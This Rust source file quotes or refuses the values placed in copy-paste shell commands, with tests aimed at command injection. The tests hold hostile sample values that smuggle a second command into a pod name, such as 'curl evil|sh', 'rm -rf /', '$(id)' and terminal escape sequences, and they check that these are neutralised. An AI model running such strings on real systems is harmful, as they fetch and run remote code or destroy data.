//! Commands that are printed for copy and paste. They carry values of records, which anybody may have written, so they are built
//! from words and every word is quoted for a POSIX shell. What cannot be quoted so that it is seen as it is, is refused.

use crate::text::is_deceptive;
use std::fmt;
use std::path::Path;

use serde::{Deserialize, Deserializer, Serialize, Serializer};

/// A command, or why there is none. No text can become one past its words.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct ShellCommand(Kind);

#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Kind {
    Words {
        /// The sandbox in whose network it is to be run.
        inside: Option<String>,
        words: Vec<String>,
    },
    /// Nothing to run: a comment.
    Remark(String),
}

const ENTER: (&str, &str) = ("nsenter --net=/proc/$(crictl inspectp ", " | jq .info.pid)/ns/net ");
const COMMENT: &str = "# ";

impl ShellCommand {
    /// A program with its first words, as they stand in our own code: separated by blanks.
    pub fn new(words: &'static str) -> ShellCommand {
        ShellCommand(Kind::Words { inside: None, words: Vec::new() }).plain(words)
    }

    /// Something that a person must do, and about what. Only harmless characters of that are shown.
    pub fn remark(text: &'static str, about: &str) -> ShellCommand {
        ShellCommand(Kind::Remark(format!("{text} {}", tame(about))))
    }

    /// More words of our own code.
    #[must_use]
    pub fn plain(mut self, more: &'static str) -> ShellCommand {
        if let Kind::Words { words, .. } = &mut self.0 {
            words.extend(more.split_ascii_whitespace().map(str::to_owned));
        }
        self
    }

    /// One word that comes from elsewhere. One that a program would take for an option, or that a terminal would not show as it is,
    /// makes the whole command a comment.
    #[must_use]
    pub fn value(mut self, value: impl fmt::Display) -> ShellCommand {
        let value = value.to_string();
        if let Some(why) = refusal(&value) {
            return self.refused(why, &value);
        }
        if let Kind::Words { words, .. } = &mut self.0 {
            words.push(value);
        }
        self
    }

    /// `name=value`, as one word.
    #[must_use]
    pub fn assigned(self, name: impl fmt::Display, value: impl fmt::Display) -> ShellCommand {
        self.value(format!("{name}={value}"))
    }

    /// A file. One whose name is no text is refused.
    #[must_use]
    pub fn path(self, path: &Path) -> ShellCommand {
        match path.to_str() {
            // A name that begins with a dash is no option if it begins with its folder.
            Some(text) if text.starts_with('-') => self.value(format!("./{text}")),
            Some(text) => self.value(text),
            None => self.refused("its name is not valid UTF-8", &path.to_string_lossy()),
        }
    }

    /// The same, run in the network of a sandbox.
    #[must_use]
    pub fn in_sandbox(mut self, id: &str) -> ShellCommand {
        if id.is_empty() || !id.bytes().all(|byte| byte.is_ascii_alphanumeric()) {
            return self.refused("the sandbox has an invalid ID", id);
        }
        if let Kind::Words { inside, .. } = &mut self.0 {
            *inside = Some(id.to_owned());
        }
        self
    }

    /// The words as a shell hands them to the program; none if there is no command.
    pub fn words(&self) -> &[String] {
        match &self.0 {
            Kind::Words { words, .. } => words,
            Kind::Remark(_) => &[],
        }
    }

    fn refused(self, why: &str, value: &str) -> ShellCommand {
        match self.0 {
            Kind::Words { words, .. } => {
                let command = tame(&words.join(" "));
                ShellCommand(Kind::Remark(format!("no command for {command} {}: {why}", tame(value))))
            }
            Kind::Remark(_) => self,
        }
    }
}

fn refusal(value: &str) -> Option<&'static str> {
    if value.starts_with('-') {
        return Some("it begins with a dash and would be taken for an option");
    }
    value.chars().any(is_deceptive).then_some("it has characters that a terminal does not show as they are")
}

fn is_tame(character: char) -> bool {
    character.is_ascii_alphanumeric() || "_@%+=:,./- ".contains(character)
}

/// For comments: some shells run what stands behind a semicolon there.
fn tame(text: &str) -> String {
    text.chars().map(|character| if is_tame(character) { character } else { '?' }).collect()
}

/// One word, in single quotes where it needs any.
pub fn quoted(word: &str) -> String {
    let is_bare = !word.is_empty()
        && word.chars().all(|character| is_tame(character) && character != ' ')
        // zsh takes the rest for the name of a program.
        && !word.starts_with('=');
    match is_bare {
        true => word.to_owned(),
        false => format!("'{}'", word.replace('\'', r"'\''")),
    }
}

impl fmt::Display for ShellCommand {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.0 {
            Kind::Remark(text) => write!(f, "{COMMENT}{text}"),
            Kind::Words { inside, words } => {
                if let Some(id) = inside {
                    write!(f, "{}{id}{}", ENTER.0, ENTER.1)?;
                }
                let words: Vec<String> = words.iter().map(|word| quoted(word)).collect();
                f.write_str(&words.join(" "))
            }
        }
    }
}

impl Serialize for ShellCommand {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.collect_str(self)
    }
}

impl<'de> Deserialize<'de> for ShellCommand {
    /// Only what is written here is read; everything else is a comment.
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<ShellCommand, D::Error> {
        let text = String::deserialize(deserializer)?;
        Ok(read(&text).unwrap_or_else(|| ShellCommand(Kind::Remark(tame(text.trim_start_matches(COMMENT))))))
    }
}

fn read(text: &str) -> Option<ShellCommand> {
    let (inside, rest) = match text.strip_prefix(ENTER.0).and_then(|rest| rest.split_once(ENTER.1)) {
        Some((id, rest)) => (Some(id), rest),
        None => (None, text),
    };
    let words = split(rest)?;
    let mut command = ShellCommand(Kind::Words { inside: None, words });
    if let Some(id) = inside {
        command = command.in_sandbox(id);
    }
    (command.to_string() == text).then_some(command)
}

/// The words of a text that [`quoted`] made.
fn split(text: &str) -> Option<Vec<String>> {
    let (mut words, mut word, mut rest) = (Vec::new(), String::new(), text.chars());
    let mut is_quoted = false;
    while let Some(character) = rest.next() {
        match character {
            '\'' => is_quoted = !is_quoted,
            '\\' if !is_quoted => word.push(rest.next().filter(|next| *next == '\'')?),
            ' ' if !is_quoted => words.push(std::mem::take(&mut word)),
            _ if is_deceptive(character) || !(is_quoted || is_tame(character)) => return None,
            _ => word.push(character),
        }
    }
    words.push(word);
    (!is_quoted && words.first().is_some_and(|first| !first.is_empty())).then_some(words)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_are_quoted_where_they_need_it_and_only_there() {
        let delete = |namespace: &str, pod: &str| {
            ShellCommand::new("kubectl delete pod -n").value(namespace).value(pod).to_string()
        };
        assert_eq!(delete("shop", "web-1"), "kubectl delete pod -n shop web-1");
        assert_eq!(delete("shop", "web-1;curl evil|sh"), "kubectl delete pod -n shop 'web-1;curl evil|sh'");
        assert_eq!(delete("shop", "it's $(id) `id`"), r"kubectl delete pod -n shop 'it'\''s $(id) `id`'");
        assert_eq!(delete("", "web"), "kubectl delete pod -n '' web");
        assert_eq!(ShellCommand::new("ip route del").value("=x").to_string(), "ip route del '=x'");
        let inside = ShellCommand::new("ip link set").value("eth0").plain("up").in_sandbox("0f3a");
        assert_eq!(
            inside.to_string(),
            "nsenter --net=/proc/$(crictl inspectp 0f3a | jq .info.pid)/ns/net ip link set eth0 up"
        );
    }

    #[test]
    fn what_cannot_be_pasted_safely_is_refused() {
        let delete = |pod: &str| ShellCommand::new("kubectl delete pod").value(pod).to_string();
        for (pod, shown) in [
            ("--all", "# no command for kubectl delete pod --all: it begins with a dash"),
            ("a\nrm -rf /", "# no command for kubectl delete pod a?rm -rf /: it has characters"),
            ("\u{202e}live", "# no command for kubectl delete pod ?live: it has characters"),
            ("a\u{1b}[2J;x", "# no command for kubectl delete pod a??2J?x: it has characters"),
        ] {
            assert!(delete(pod).starts_with(shown), "{}", delete(pod));
            assert!(!delete(pod).contains(is_deceptive) && !delete(pod).contains(';'));
        }
        let refused = ShellCommand::new("kubectl delete pod").value("-x").value("web").in_sandbox("1");
        assert!(refused.words().is_empty() && refused.to_string().starts_with("# no command"), "{refused}");
        let inside = ShellCommand::new("ip link").in_sandbox("$(id)");
        assert!(inside.to_string().starts_with("# no command"), "{inside}");
        let remark = ShellCommand::remark("recreate the pod of sandbox", "a;curl x\n");
        assert_eq!(remark.to_string(), "# recreate the pod of sandbox a?curl x?");
    }

    #[test]
    fn files_are_words_too() {
        use std::os::unix::ffi::OsStrExt as _;
        let plan = |path: &Path| ShellCommand::new("plumb repair --plan").path(path).to_string();
        assert_eq!(plan(Path::new("my plan.json")), "plumb repair --plan 'my plan.json'");
        assert_eq!(plan(Path::new("-x")), "plumb repair --plan ./-x");
        let odd = std::ffi::OsStr::from_bytes(b"a\xff;b");
        assert!(plan(Path::new(odd)).starts_with("# no command"), "{}", plan(Path::new(odd)));
    }

    #[test]
    fn what_is_read_was_written_here_or_is_a_comment() {
        let read = |text: &str| serde_json::from_value::<ShellCommand>(text.into()).unwrap().to_string();
        assert_eq!(read("kubectl delete pod 'a b'"), "kubectl delete pod 'a b'");
        for hostile in ["kubectl delete pod a; curl x", "curl $(id)", "a 'b", "a\nb", "", "'a'", "echo \"x\""]
        {
            assert!(read(hostile).starts_with(COMMENT), "{}", read(hostile));
        }
    }
}
